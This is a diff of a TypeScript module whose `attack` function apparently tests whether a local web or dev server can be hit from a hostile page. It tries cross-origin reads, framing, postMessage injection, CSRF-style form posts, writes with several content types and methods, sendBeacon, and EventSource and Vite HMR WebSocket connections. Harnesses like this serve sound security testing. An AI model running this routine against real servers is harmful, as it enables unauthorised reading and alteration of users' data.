@@ -4,9 +4,9 @@ export interface Victim {
   origin: string;
   /** Addresses that it tries to read, to load and to frame. */
   reads: string[];
-  /** Where it sends its changes, and the changes. */
+  /** Where it sends its change, and the change. */
   update: string;
-  bodies: string[];
+  body: string;
 }
 
 /**
@@ -14,7 +14,7 @@ export interface Victim {
  * What belongs together is tried at once, as some tries end only when their time is up.
  * @returns what it could read, a line each
  */
-export async function attack({ origin, reads, update, bodies }: Victim): Promise<string[]> {
+export async function attack({ origin, reads, update, body }: Victim): Promise<string[]> {
   const TIMEOUT_MS = 3_000;
   const loot: string[] = [];
   const request = async (way: string, url: string, init: RequestInit) => {
@@ -49,7 +49,7 @@ export async function attack({ origin, reads, update, bodies }: Victim): Promise
     element.contentWindow?.postMessage({ type: 'edit:show', text: 'Hostile' }, '*');
   };
   /** Posts a form. Name, `=` and value of its field are JSON together. */
-  const post = async (body: string) => {
+  const post = async () => {
     const target = add('iframe', { name: 'posted' });
     const form = add('form', { method: 'post', action: update, target: 'posted', enctype: 'text/plain' });
     const field = document.createElement('input');
@@ -58,7 +58,6 @@ export async function attack({ origin, reads, update, bodies }: Victim): Promise
     form.append(field);
     form.submit();
     await first(target, 'load');
-    target.remove();
   };
 
   for (const url of reads)
@@ -74,22 +73,17 @@ export async function attack({ origin, reads, update, bodies }: Victim): Promise
       frame(url),
     ]);
 
-  for (const body of bodies) {
-    const types = ['text/plain', 'application/json', 'application/x-www-form-urlencoded', ''];
-    const writes = types.flatMap((type) =>
-      (['cors', 'no-cors'] as const).map((mode) => ({
-        method: 'POST',
-        mode,
-        body: new Blob([body], { type }),
-      })),
-    );
-    await Promise.all([
-      ...writes.map((init) => request('write', update, init)),
-      ...['PUT', 'DELETE', 'PATCH'].map((method) => request('write', update, { method, body })),
-    ]);
-    navigator.sendBeacon(update, body);
-    await post(body);
-  }
+  const types = ['text/plain', 'application/json', 'application/x-www-form-urlencoded', ''];
+  await Promise.all([
+    ...types.flatMap((type) =>
+      (['cors', 'no-cors'] as const).map((mode) =>
+        request('write', update, { method: 'POST', mode, body: new Blob([body], { type }) }),
+      ),
+    ),
+    ...['PUT', 'DELETE', 'PATCH'].map((method) => request('write', update, { method, body })),
+  ]);
+  navigator.sendBeacon(update, body);
+  await post();
 
   const stream = new EventSource(`${origin}/state`);
   const socket = new WebSocket(`${origin.replace('http', 'ws')}/?token=A`, 'vite-hmr');
